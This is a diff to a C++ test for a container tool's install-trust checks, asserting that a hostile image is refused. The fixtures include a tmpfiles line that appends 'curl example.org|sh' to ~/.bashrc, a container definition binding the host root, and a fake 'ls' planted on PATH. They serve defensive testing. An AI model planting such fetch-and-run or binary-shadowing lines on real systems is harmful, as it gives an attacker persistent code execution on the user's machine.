@@ -179,7 +179,10 @@ TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
        {"hostfs/etc/box/containers/evil.yaml", "rootfs: /\ncommand: [sh]\n"},
        {"hostfs/usr/bin/ls", "#!/bin/sh\necho owned\n"}});
   ASSERT_FALSE(hostile.empty());
-  const std::string config = home() + "/.config";
+  // hostfs/etc is the boxes' /etc ($CONF_DIRECTORY), never your
+  // ~/.config itself: these reach only other boxes' config dirs, and even
+  // that needs consent.
+  const std::string config = home() + "/.config/box/etc";
   const std::vector<std::string> refusals = {
       "tmpfiles.template:1: 'w+ " + home() +
           "/.bashrc - - - - curl example.org|sh': 'w+' writes into a file; an image may only "
@@ -192,14 +195,15 @@ TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
       "own places; add --allow-bind / to allow it",
       "service.template: WantedBy= asks for 'autostart: login'",
       "hostfs/etc/systemd/user/x.service -> " + config +
-          "/systemd/user/x.service: systemd user units and their .wants links: systemd runs "
-          "them; add --allow-host-file " + config + "/systemd/user/x.service to install it",
+          "/systemd/user/x.service: another box's configuration ($CONF_DIRECTORY/NAME is bound "
+          "into box NAME; an image may put files only in its own); add --allow-host-file " +
+          config + "/systemd/user/x.service to install it",
       "hostfs/etc/systemd/user/default.target.wants/x.service -> " + config +
           "/systemd/user/default.target.wants/x.service: a symlink to '../x.service'",
       "hostfs/etc/autostart/x.desktop -> " + config +
-          "/autostart/x.desktop: XDG autostart entries",
+          "/autostart/x.desktop: another box's configuration",
       "hostfs/etc/box/containers/evil.yaml -> " + config +
-          "/box/containers/evil.yaml: box definitions",
+          "/box/containers/evil.yaml: another box's configuration",
       "hostfs/usr/bin/ls -> " + home() + "/.local/bin/ls: " + home() +
           "/.local/bin is on PATH",
   };
